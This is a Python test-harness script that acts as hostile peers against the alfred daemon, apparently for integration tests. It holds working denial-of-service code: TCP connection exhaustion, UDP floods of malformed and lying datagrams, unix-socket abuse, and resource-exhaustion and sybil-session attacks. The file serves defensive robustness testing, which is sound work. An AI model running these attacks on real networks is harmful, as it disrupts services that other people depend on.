#!/usr/bin/python3
"""Hostile peers and clients for tests/integration/test_hostile_peers.py.

Run as a script inside a node's network namespace (stdlib only):

    ip netns exec NS /usr/bin/python3 hostile_peer_tools.py MODE 'JSON-CONFIG'

MODE is one of
  tcp   connection abuse against a daemon's TCP port 16962
  udp   a flood of random, truncated and lying datagrams to port 16962
  unix  abuse of a daemon's unix socket (runs in the victim's namespace)
  res   well-formed traffic that makes the daemon hold, send or compute
        much per byte (see resource_attack; test_hostile_resources.py)

The attack runs for config["duration"] seconds (or until SIGTERM/SIGINT),
then every socket is checked (still open / closed by the daemon), all are
closed and one JSON report line is printed on stdout:  REPORT {...}

Wire format (alfred, all big endian): TLV = type u8, version u8, length u16
(bytes after the TLV).  push_data (0): TLV, tx_id u16, seqno u16, records
(source mac[6], type u8, version u8, length u16, data).  request (2): TLV,
requested type u8, tx_id u16.  status_txend (3): TLV, tx_id u16, seqno u16
(= number of packets of the transaction).  event_register (9): TLV only.
"""

from __future__ import annotations

import errno
import json
import os
import random
import resource
import selectors
import signal
import socket
import struct
import sys
import time

PORT = 16962
_stop = False


def _on_signal(signum, frame):
    global _stop
    _stop = True


def tlv(ptype: int, length: int, version: int = 0) -> bytes:
    return struct.pack("!BBH", ptype, version, length)


def record(rtype: int, data: bytes, source: bytes | None = None, version: int = 0) -> bytes:
    src = source if source is not None else bytes([0x02, 0x66]) + os.urandom(4)
    return src + struct.pack("!BBH", rtype, version, len(data)) + data


def push(tx_id: int, seqno: int, records: bytes) -> bytes:
    body = struct.pack("!HH", tx_id, seqno) + records
    return tlv(0, len(body)) + body


def request(rtype: int, tx_id: int) -> bytes:
    return tlv(2, 3) + struct.pack("!BH", rtype, tx_id)


def txend(tx_id: int, count: int) -> bytes:
    return tlv(3, 4) + struct.pack("!HH", tx_id, count)


def raise_nofile(n: int = 65536) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = n if hard == resource.RLIM_INFINITY else min(n, hard)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def peer_state(s: socket.socket) -> str:
    """'open', 'eof' (daemon closed it) or 'reset', without consuming data
    that a test might still want to count (MSG_PEEK)."""
    try:
        d = s.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK)
    except (BlockingIOError, InterruptedError):
        return "open"
    except ConnectionResetError:
        return "reset"
    except OSError as e:
        return "error:" + errno.errorcode.get(e.errno, str(e.errno))
    return "eof" if d == b"" else "open"  # data waiting: still open as far as we know


def drain_state(s: socket.socket, limit: int = 64 << 20) -> tuple[str, int]:
    """Read everything that is waiting; returns (state, bytes read)."""
    n = 0
    while n < limit:
        try:
            d = s.recv(65536, socket.MSG_DONTWAIT)
        except (BlockingIOError, InterruptedError):
            return "open", n
        except ConnectionResetError:
            return "reset", n
        except OSError as e:
            return "error:" + errno.errorcode.get(e.errno, str(e.errno)), n
        if not d:
            return "eof", n
        n += len(d)
    return "open", n


def sleep_until(t: float) -> None:
    while not _stop:
        left = t - time.monotonic()
        if left <= 0:
            return
        time.sleep(min(left, 0.1))


# --------------------------------------------------------------------------- tcp

def tcp_attack(cfg: dict) -> dict:
    """cfg: victim (fe80:: address), ifname, sources [addresses of ours],
    duration, plan: list of {"kind", "count", "sources": [indices]}; kinds:
      idle    connect, send nothing
      half    send 2 bytes of a header, stall
      huge    send a header announcing 65535 bytes (more than any packet)
      near    send a header announcing 65000 bytes, then 10 bytes, stall
      noread  send a request for type cfg["req_type"], never read the answer
    Connections are opened kind by kind in plan order, non-blocking, each
    kind's sources used round robin."""
    raise_nofile()
    scope = socket.if_nametoindex(cfg["ifname"])
    victim = (cfg["victim"], PORT, 0, scope)
    srcs = cfg["sources"]
    t0 = time.monotonic()
    deadline = t0 + cfg["duration"]
    sel = selectors.DefaultSelector()
    conns: list[dict] = []
    payload = {
        "idle": b"",
        "half": tlv(0, 100)[:2],
        "huge": tlv(0, 0xFFFF),
        "near": tlv(0, 65000) + os.urandom(10),
        "noread": request(cfg.get("req_type", 64), 0),
    }
    stats = {}
    for step in cfg["plan"]:
        kind = step["kind"]
        st = stats.setdefault(kind, {"attempted": 0, "connected": 0, "refused_at_connect": 0,
                                     "connect_timeout": 0, "sent": 0})
        pending = {}
        for i in range(step["count"]):
            src = srcs[step["sources"][i % len(step["sources"])]]
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.setblocking(False)
            if kind == "noread":
                # a small window, so the daemon's writes stall early
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            try:
                s.bind((src, 0, 0, scope))
                s.connect(victim)
            except BlockingIOError:
                pass
            except OSError as e:
                st.setdefault("errors", {}).setdefault(errno.errorcode.get(e.errno, str(e.errno)), 0)
                st["errors"][errno.errorcode.get(e.errno, str(e.errno))] += 1
                s.close()
                continue
            st["attempted"] += 1
            pending[s.fileno()] = s
            sel.register(s, selectors.EVENT_WRITE)
        # wait for this step's connects (bounded, so a SYN-dropping daemon cannot hang us)
        step_deadline = time.monotonic() + step.get("connect_wait", 8)
        while pending and time.monotonic() < step_deadline and not _stop:
            for key, _ in sel.select(0.2):
                s = key.fileobj
                sel.unregister(s)
                pending.pop(s.fileno(), None)
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    st["refused_at_connect"] += 1
                    s.close()
                    continue
                st["connected"] += 1
                data = payload[kind]
                if data:
                    try:
                        s.send(data)
                        st["sent"] += 1
                    except OSError:
                        pass
                conns.append({"kind": kind, "sock": s, "t": time.monotonic() - t0})
        for s in pending.values():
            sel.unregister(s)
            st["connect_timeout"] += 1
            s.close()
    stats["open_phase_s"] = round(time.monotonic() - t0, 2)
    sleep_until(deadline)
    for c in conns:
        state = peer_state(c["sock"])
        st = stats[c["kind"]]
        st[state] = st.get(state, 0) + 1
    for c in conns:
        c["sock"].close()
    stats["elapsed_s"] = round(time.monotonic() - t0, 2)
    return stats


# --------------------------------------------------------------------------- udp

def udp_attack(cfg: dict) -> dict:
    """cfg: victim, ifname, sources, duration, rate (datagrams/s, all kinds),
    big_rate (60 KB valid-looking pushes per second), multicast_share (0..1),
    big_first_s / big_first_rate: a burst of only 60 KB pushes before the mix,
    kinds: restrict the mix to these generator names."""
    scope = socket.if_nametoindex(cfg["ifname"])
    rnd = random.Random(cfg.get("seed", 1))
    socks = []
    for src in cfg["sources"]:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.bind((src, 0, 0, scope))
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, scope)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        s.setblocking(False)
        socks.append(s)
    uni = (cfg["victim"], PORT, 0, scope)
    multi = ("ff02::1", PORT, 0, scope)
    mshare = cfg.get("multicast_share", 0.3)

    def rtype():
        return rnd.randrange(64, 256)

    def gen_random():
        return os.urandom(rnd.randrange(1, 1400))

    def gen_tlv_lie():
        # header announcing more than the datagram holds
        ptype = rnd.choice([0, 1, 2, 3, 4, 5, 8, 9, 10, rnd.randrange(256)])
        body = os.urandom(rnd.randrange(0, 200))
        return tlv(ptype, rnd.randrange(len(body) + 1, 0x10000), version=rnd.choice([0, 0, 0, 1]))[:4] + body

    def gen_record_past_end():
        data = os.urandom(rnd.randrange(0, 100))
        rec = bytes([2, 0x66]) + os.urandom(4) + struct.pack("!BBH", rtype(), 0, len(data) + rnd.randrange(1, 60000)) + data
        return push(rnd.randrange(0x10000), rnd.randrange(0x10000), rec)

    def gen_valid_incomplete():
        data = os.urandom(rnd.randrange(1, 1100))
        return push(rnd.randrange(0x10000), rnd.randrange(0, 8), record(rtype(), data))

    def gen_txend():
        return txend(rnd.randrange(0x10000), rnd.choice([1, 2, 100, 0xFFFF, rnd.randrange(0x10000)]))

    def gen_huge_counts():
        # a transaction announcing 65535 packets, of which one arrives
        tx = rnd.randrange(0x10000)
        return [push(tx, 0xFFFE, record(rtype(), os.urandom(32))), txend(tx, 0xFFFF)]

    def gen_big():
        data = os.urandom(60000)
        return push(rnd.randrange(0x10000), rnd.randrange(0, 0x10000), record(rtype(), data))

    kinds = [("random", gen_random, 3), ("tlv_lie", gen_tlv_lie, 2), ("record_past_end", gen_record_past_end, 2),
             ("valid_incomplete", gen_valid_incomplete, 3), ("txend_unknown", gen_txend, 2),
             ("huge_counts", gen_huge_counts, 1)]
    if cfg.get("kinds"):
        kinds = [k for k in kinds if k[0] in cfg["kinds"]]
    weighted = [k for k in kinds for _ in range(k[2])]
    sent = {k[0]: 0 for k in kinds}
    sent["big_push"] = 0
    dropped = {}
    rate = cfg["rate"]
    big_rate = cfg.get("big_rate", 0)
    t0 = time.monotonic()
    end = t0 + cfg["duration"]
    n = 0
    nbig = 0
    to_uni = to_multi = 0

    def send(s, pkt, dest):
        try:
            s.sendto(pkt, dest)
            return True
        except (BlockingIOError, InterruptedError):
            dropped["EAGAIN"] = dropped.get("EAGAIN", 0) + 1
        except OSError as e:
            k = errno.errorcode.get(e.errno, str(e.errno))
            dropped[k] = dropped.get(k, 0) + 1
        return False

    # First a burst of large pushes only (each a transaction of its own that
    # never completes), to drive the daemon's buffered-transaction memory to
    # its cap before the small packets fill its transaction table.
    burst_end = t0 + cfg.get("big_first_s", 0)
    nb = 0
    while not _stop and time.monotonic() < burst_end:
        if nb >= int((time.monotonic() - t0) * cfg.get("big_first_rate", 300)):
            time.sleep(0.0005)
            continue
        if send(socks[nb % len(socks)], gen_big(), uni):
            sent["big_push"] += 1
            to_uni += 1
        nb += 1
    t1 = time.monotonic()
    while not _stop:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t1) * rate)
        if n >= due and (not big_rate or nbig >= int((now - t1) * big_rate)):
            time.sleep(0.0005)
            continue
        batch = min(max(due - n, 0), 200)
        for _ in range(batch):
            name, gen, _w = weighted[rnd.randrange(len(weighted))]
            pkts = gen()
            if isinstance(pkts, bytes):
                pkts = [pkts]
            s = socks[rnd.randrange(len(socks))]
            multicast = rnd.random() < mshare
            dest = multi if multicast else uni
            for p in pkts:
                if send(s, p, dest):
                    sent[name] += 1
                    if multicast:
                        to_multi += 1
                    else:
                        to_uni += 1
            n += 1
        while big_rate and nbig < int((time.monotonic() - t1) * big_rate):
            if send(socks[nbig % len(socks)], gen_big(), uni):
                sent["big_push"] += 1
                to_uni += 1
            nbig += 1
    for s in socks:
        s.close()
    total = sum(sent.values())
    el = time.monotonic() - t0
    return {"sent": sent, "total": total, "unicast": to_uni, "multicast": to_multi,
            "send_errors": dropped, "elapsed_s": round(el, 2), "rate_per_s": round(total / max(el, 1e-9))}


# --------------------------------------------------------------------------- unix

def unix_attack(cfg: dict) -> dict:
    """cfg: path, duration, silent, garbage, hugehdr, listeners."""
    raise_nofile()
    path = cfg["path"]
    t0 = time.monotonic()
    deadline = t0 + cfg["duration"]
    conns = []
    stats = {}

    def connect() -> socket.socket | None:
        end = time.monotonic() + 5
        while not _stop:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.connect(path)
                return s
            except (BlockingIOError, InterruptedError):  # listen backlog full: the daemon is busy
                s.close()
                if time.monotonic() > end:
                    return None
                time.sleep(0.002)
            except OSError:
                s.close()
                return None
        return None

    plan = [("listener", cfg.get("listeners", 0)), ("garbage", cfg.get("garbage", 0)),
            ("hugehdr", cfg.get("hugehdr", 0)), ("silent", cfg.get("silent", 0))]
    for kind, count in plan:
        st = stats.setdefault(kind, {"attempted": 0, "connected": 0, "write_failed": 0})
        for _ in range(count):
            if _stop:
                break
            st["attempted"] += 1
            s = connect()
            if s is None:
                continue
            st["connected"] += 1
            data = {"listener": tlv(9, 0), "garbage": os.urandom(random.randrange(1, 300)),
                    "hugehdr": tlv(0, 0xFFFF), "silent": b""}[kind]
            if data:
                try:
                    s.send(data)
                except OSError:
                    st["write_failed"] += 1
            conns.append((kind, s))
    stats["open_phase_s"] = round(time.monotonic() - t0, 2)
    sleep_until(deadline)
    for kind, s in conns:
        st = stats[kind]
        if kind == "listener":
            state, n = drain_state(s)
            st["event_bytes_read_at_end"] = st.get("event_bytes_read_at_end", 0) + n
            st["max_event_bytes_one_listener"] = max(st.get("max_event_bytes_one_listener", 0), n)
        else:
            state = peer_state(s)
        st[state] = st.get(state, 0) + 1
    for kind, s in conns:
        s.close()
    stats["elapsed_s"] = round(time.monotonic() - t0, 2)
    return stats


# --------------------------------------------------------------------------- resources

def _udp_socks(cfg: dict, port: int = 0) -> tuple[list, int]:
    """One socket per source address; with port=PORT they also receive what
    the victim sends to alfred's port (answers, syncs) at those addresses."""
    scope = socket.if_nametoindex(cfg["ifname"])
    socks = []
    for src in cfg["sources"]:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.bind((src, port, 0, scope))
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, scope)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        s.setblocking(False)
        socks.append(s)
    return socks, scope


def _tcp_connect(cfg: dict, src: str, timeout: float = 5.0) -> socket.socket:
    scope = socket.if_nametoindex(cfg["ifname"])
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((src, 0, 0, scope))
    s.connect((cfg["victim"], PORT, 0, scope))
    return s


def _drain_udp(socks: list, stats: dict) -> None:
    for s in socks:
        while True:
            try:
                d = s.recv(65536)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                break
            stats["bytes_back"] += len(d)
            stats["datagrams_back"] += 1


def _paced(rate: float, t0: float, n: int) -> bool:
    """True when the n-th item is due at `rate` per second since t0."""
    return n < (time.monotonic() - t0) * rate


def _paced_udp(cfg: dict, pkt: bytes, rate: float, end: float, stats: dict, err) -> None:
    """`pkt` to the victim at `rate` per second from every source in turn,
    counting what the victim sends back to those addresses."""
    socks, scope = _udp_socks(cfg, PORT)
    dest = (cfg["victim"], PORT, 0, scope)
    t0, n = time.monotonic(), 0
    while not _stop and time.monotonic() < end:
        _drain_udp(socks, stats)
        if not _paced(rate, t0, n):
            time.sleep(0.0005)
            continue
        try:
            socks[n % len(socks)].sendto(pkt, dest)
            stats["sent"] += 1
            stats["bytes_sent"] += len(pkt)
        except OSError as e:
            err(e)
        n += 1
    time.sleep(1.0)
    _drain_udp(socks, stats)
    for sk in socks:
        sk.close()


def resource_attack(cfg: dict) -> dict:
    """cfg: victim, ifname, sources, duration, kind; kinds:
      empty_pushes   one TCP connection: tx_ids x seqnos push-data packets of
                     8 bytes with no records, never a txend (finding 2)
      store_flood    UDP: complete transactions (push + txend), each with
                     `records` zero-length records under random source MACs
                     and types, `rate` transactions/s (finding 1)
      tiny_stream    UDP: `fill` pushes from every source with distinct ids,
                     never completed (the transaction table full), then one
                     TCP connection streaming 4-byte announcements (finding 3)
      tiny_udp       the same fill, then 4-byte announcements by UDP from the
                     first source at `rate`/s (default 50,000), for daemons
                     without a TCP port (bench/alfredbench/attack.py)
      udp_requests   UDP: 7-byte requests for type `req_type` at `rate`/s
                     from every source; counts what comes back (finding 4)
      tcp_requests   one TCP connection writes `count` requests at once, and
                     one honest connection pipelines two (finding 4)
      announces      UDP: 4-byte announcements from every source, `rate`/s in
                     all (finding 5)
      session_sybil  the same, and every source takes the sessions the
                     victim opens to it: each is answered with the victim's
                     own first packet, its hello with the answer flag set
                     (so the session comes up), then read and discarded"""
    raise_nofile()
    kind = cfg["kind"]
    rnd = random.Random(cfg.get("seed", 7))
    t0 = time.monotonic()
    end = t0 + cfg["duration"]
    stats: dict = {"kind": kind, "sent": 0, "bytes_sent": 0, "bytes_back": 0, "datagrams_back": 0,
                   "errors": {}}

    def err(e: OSError):
        k = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__
        stats["errors"][k] = stats["errors"].get(k, 0) + 1

    if kind == "empty_pushes":
        s = _tcp_connect(cfg, cfg["sources"][0])
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        s.settimeout(10)
        ids, seqnos = cfg.get("tx_ids", 64), cfg.get("seqnos", 65535)
        try:
            for tx in range(ids):
                if _stop or time.monotonic() > end:
                    break
                chunk = b"".join(push(0x4000 + tx, q, b"") for q in range(seqnos))
                s.sendall(chunk)
                stats["sent"] += seqnos
                stats["bytes_sent"] += len(chunk)
        except OSError as e:
            err(e)
        stats["send_s"] = round(time.monotonic() - t0, 2)
        sleep_until(end)
        stats["state"] = peer_state(s)
        s.close()

    elif kind == "store_flood":
        socks, scope = _udp_socks(cfg)
        dest = (cfg["victim"], PORT, 0, scope)
        nrec, rate = cfg.get("records", 100), cfg.get("rate", 500)
        n = 0
        while not _stop and time.monotonic() < end:
            if not _paced(rate, t0, n):
                time.sleep(0.0005)
                continue
            recs = b"".join(record(rnd.randrange(64, 256), b"") for _ in range(nrec))
            tx = rnd.randrange(0x10000)
            sk = socks[n % len(socks)]
            for pkt in (push(tx, 0, recs), txend(tx, 1)):
                try:
                    sk.sendto(pkt, dest)
                    stats["sent"] += 1
                    stats["bytes_sent"] += len(pkt)
                except OSError as e:
                    err(e)
            n += 1
        stats["records_sent"] = n * nrec
        for sk in socks:
            sk.close()

    elif kind == "tiny_stream":
        socks, scope = _udp_socks(cfg)
        dest = (cfg["victim"], PORT, 0, scope)
        for i, sk in enumerate(socks):
            for tx in range(cfg.get("fill", 64)):
                try:
                    sk.sendto(push(tx, 0, record(64, b"x" * 16)), dest)
                    stats["sent"] += 1
                except OSError as e:
                    err(e)
            time.sleep(0.01)
        s = _tcp_connect(cfg, cfg["sources"][0])
        s.settimeout(10)
        chunk = tlv(1, 0) * 4096
        try:
            while not _stop and time.monotonic() < end:
                s.sendall(chunk)
                stats["bytes_sent"] += len(chunk)
        except OSError as e:
            err(e)
        stats["announces_streamed"] = stats["bytes_sent"] // 4
        stats["state"] = peer_state(s)
        s.close()

    elif kind == "tiny_udp":
        socks, scope = _udp_socks(cfg)
        dest = (cfg["victim"], PORT, 0, scope)
        for sk in socks:
            for tx in range(cfg.get("fill", 64)):
                try:
                    sk.sendto(push(tx, 0, record(64, b"x" * 16)), dest)
                    stats["sent"] += 1
                except OSError as e:
                    err(e)
            time.sleep(0.01)
        pkt, rate, sk = tlv(1, 0), cfg.get("rate", 50000), socks[0]
        t1, n, streamed = time.monotonic(), 0, 0
        while not _stop and time.monotonic() < end:
            due = int((time.monotonic() - t1) * rate)
            if n >= due:
                time.sleep(0.0005)
                continue
            for _ in range(min(due - n, 1000)):
                try:
                    sk.sendto(pkt, dest)
                    streamed += 1
                    stats["bytes_sent"] += len(pkt)
                except OSError as e:
                    err(e)
                n += 1
        stats["sent"] += streamed
        stats["announces_streamed"] = streamed
        for s_ in socks:
            s_.close()

    elif kind == "udp_requests":
        _paced_udp(cfg, request(cfg.get("req_type", 64), 0x7777), cfg.get("rate", 2000), end, stats, err)

    elif kind == "tcp_requests":
        # an honest peer pipelining two requests gets both answers
        h = _tcp_connect(cfg, cfg["sources"][-1])
        h.sendall(request(cfg.get("req_type", 64), 0x1111) + request(cfg.get("req_type", 64), 0x2222))
        got = b""
        h.settimeout(10)
        try:
            while True:
                d = h.recv(65536)
                if not d:
                    break
                got += d
        except OSError as e:
            err(e)
        h.close()
        ends, pos = [], 0
        while pos + 4 <= len(got):
            ptype, _v, ln = struct.unpack("!BBH", got[pos:pos + 4])
            if ptype == 3 and ln >= 4:
                ends.append(struct.unpack("!H", got[pos + 4:pos + 6])[0])
            pos += 4 + ln
        stats["pipelined_txends"] = sorted(ends)
        stats["pipelined_bytes"] = len(got)
        # the attacker: thousands of requests in one write, answers unread
        s = _tcp_connect(cfg, cfg["sources"][0])
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        blob = b"".join(request(cfg.get("req_type", 64), i) for i in range(cfg.get("count", 5000)))
        try:
            s.sendall(blob)
            stats["bytes_sent"] += len(blob)
            stats["sent"] += cfg.get("count", 5000)
        except OSError as e:
            err(e)
        time.sleep(2.0)
        stats["state_after_2s"], stats["bytes_back"] = drain_state(s, 1 << 30)
        s.close()
        sleep_until(end)

    elif kind == "announces":
        _paced_udp(cfg, tlv(1, 0), cfg.get("rate", 2000), end, stats, err)

    elif kind == "session_sybil":
        _session_sybil(cfg, end, stats, err)
    else:
        raise SystemExit(f"unknown resource attack {kind}")
    stats["elapsed_s"] = round(time.monotonic() - t0, 2)
    return stats


def _session_sybil(cfg: dict, end: float, stats: dict, err) -> None:
    """Announcements from every source (`rate`/s in all) while a listener on
    alfred's port accepts every connection the victim opens to any of them."""
    socks, scope = _udp_socks(cfg, PORT)
    dest = (cfg["victim"], PORT, 0, scope)
    lst = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lst.bind(("::", PORT))
    lst.listen(1024)
    lst.setblocking(False)
    sel = selectors.DefaultSelector()
    sel.register(lst, selectors.EVENT_READ, None)
    first: dict = {}  # connection -> bytes of its first packet so far (None once echoed)
    stats.update(accepted=0, open_max=0, echoed=0)
    rate, t0, n = cfg.get("rate", 1000), time.monotonic(), 0
    while not _stop and time.monotonic() < end:
        _drain_udp(socks, stats)
        while _paced(rate, t0, n):
            try:
                socks[n % len(socks)].sendto(tlv(1, 0), dest)
                stats["sent"] += 1
                stats["bytes_sent"] += 4
            except OSError as e:
                err(e)
            n += 1
        for key, _ev in sel.select(0.005):
            if key.data is None:
                while True:
                    try:
                        c, _addr = lst.accept()
                    except BlockingIOError:
                        break
                    except OSError as e:
                        err(e)
                        break
                    c.setblocking(False)
                    sel.register(c, selectors.EVENT_READ, "conn")
                    first[c] = b""
                    stats["accepted"] += 1
                stats["open_max"] = max(stats["open_max"], len(first))
                continue
            c = key.fileobj
            try:
                d = c.recv(65536)
            except BlockingIOError:
                continue
            except OSError as e:
                err(e)
                d = b""
            if not d:
                sel.unregister(c)
                c.close()
                first.pop(c, None)
                continue
            stats["bytes_back"] += len(d)
            got = first.get(c)
            if got is None:
                continue
            got += d
            if len(got) >= 4 and len(got) >= 4 + struct.unpack("!H", got[2:4])[0]:
                answer = bytearray(got[:4 + struct.unpack("!H", got[2:4])[0]])
                if answer[0] == 0xC8 and len(answer) >= 10:
                    answer[9] |= 0x01  # the hello's flags: an answer (then magic, version, flags)
                try:
                    c.send(bytes(answer))
                    stats["echoed"] += 1
                except OSError as e:
                    err(e)
                first[c] = None
            else:
                first[c] = got
    for c in list(first):
        c.close()
    lst.close()
    for sk in socks:
        sk.close()


def main(argv: list[str]) -> int:
    signal.signal(signal.SIGTERM, _on_signal)
    signal.signal(signal.SIGINT, _on_signal)
    mode, cfg = argv[1], json.loads(argv[2])
    fn = {"tcp": tcp_attack, "udp": udp_attack, "unix": unix_attack, "res": resource_attack}[mode]
    report = fn(cfg)
    print("REPORT " + json.dumps(report, sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
